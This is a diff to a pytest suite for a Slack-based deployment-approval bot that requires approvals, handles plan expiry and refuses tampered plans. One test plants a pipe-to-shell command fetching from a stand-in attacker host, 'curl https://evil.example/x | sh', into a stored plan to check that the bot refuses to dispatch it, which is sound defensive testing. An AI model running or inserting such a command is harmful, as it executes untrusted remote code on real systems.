@@ -16,6 +16,7 @@ import pytest
 import yaml
 
 from handlers import blocks as kit
+from roles import jobs
 from roles.records import PlanStatus
 from tests import slack_requests as sr
 from tests.harness import App, eventually, settings_for, start_app
@@ -218,7 +219,11 @@ async def test_twenty_concurrent_clicks_give_one_decision_each_and_one_dispatch(
 
 
 async def test_request_changes_voids_approvals_and_shows_the_diff(bot: Bot, fakes: Fakes) -> None:
-    app = await bot.start(lambda doc: None)
+    def desktop_builds_allowed(doc: dict[str, Any]) -> None:
+        doc["repos"][0]["default_artifacts"] = list(doc["repos"][0]["artifacts"])
+        doc["repos"][0]["artifacts"].append("dmg")
+
+    app = await bot.start(desktop_builds_allowed)
     card, thread_ts = await bot.directive("deploy auth to production")
     assert "more approvals are needed" in await bot.press(card, ALICE, "a")
     value = _buttons(card.blocks)[kit.REQUEST_CHANGES]["value"]
@@ -255,7 +260,7 @@ async def test_an_expired_plan_says_so_and_never_runs(bot: Bot, fakes: Fakes) ->
         what="expired card",
     )
     assert "time-to-live" in _text(shown.blocks)
-    assert any("expired" in m.text for m in fakes.slack.thread(CHANNEL, thread_ts))
+    assert any("expired" in (m.text or "") for m in fakes.slack.thread(CHANNEL, thread_ts))
     assert "already expired" in await bot.press(card, BOB, "late")
     assert dispatched_inputs(fakes) == []
 
@@ -286,14 +291,19 @@ async def test_a_plan_edited_in_redis_is_never_dispatched(bot: Bot, fakes: Fakes
 
     # Someone with Redis access rewrites a step behind the bot's back.
     key = f"sophie:plan:{plan_id}"
-    doc = json.loads(await app.rt.store.r.hget(key, "doc"))
+    redis: Any = app.rt.store.r  # redis-py types its commands as "Awaitable[T] | T"
+    doc = json.loads(await redis.hget(key, "doc"))
     doc["steps"][0]["description"] = "curl https://evil.example/x | sh"
-    await app.rt.store.r.hset(key, "doc", json.dumps(doc))
+    await redis.hset(key, "doc", json.dumps(doc))
 
     await app.rt.start_worker()
     note = await eventually(
         lambda: next(
-            (m for m in fakes.slack.thread(CHANNEL, card.thread_ts) if "Not dispatched" in m.text),
+            (
+                m
+                for m in fakes.slack.thread(CHANNEL, card.thread_ts)
+                if "Not dispatched" in (m.text or "")
+            ),
             None,
         ),
         what="refusal to dispatch",
@@ -309,6 +319,11 @@ async def test_an_expiring_plan_is_reminded_in_its_thread(bot: Bot, fakes: Fakes
     card, thread_ts = await bot.directive("deploy auth to production")
     plan_id = _buttons(card.blocks)[kit.APPROVE]["value"].split("|")[0]
     assert "more approvals are needed" in await bot.press(card, ALICE, "a")
-    await app.rt.sophie.remind(plan_id)  # the job the scheduler runs before the TTL ends
-    note = next(m.text for m in fakes.slack.thread(CHANNEL, thread_ts) if "expires in" in m.text)
+    # The job the scheduler runs before the TTL ends.
+    await app.rt.sophie.run(jobs.OnPlan("remind", plan_id))
+    note = next(
+        m.text or ""
+        for m in fakes.slack.thread(CHANNEL, thread_ts)
+        if "expires in" in (m.text or "")
+    )
     assert plan_id in note and "1 more approver" in note
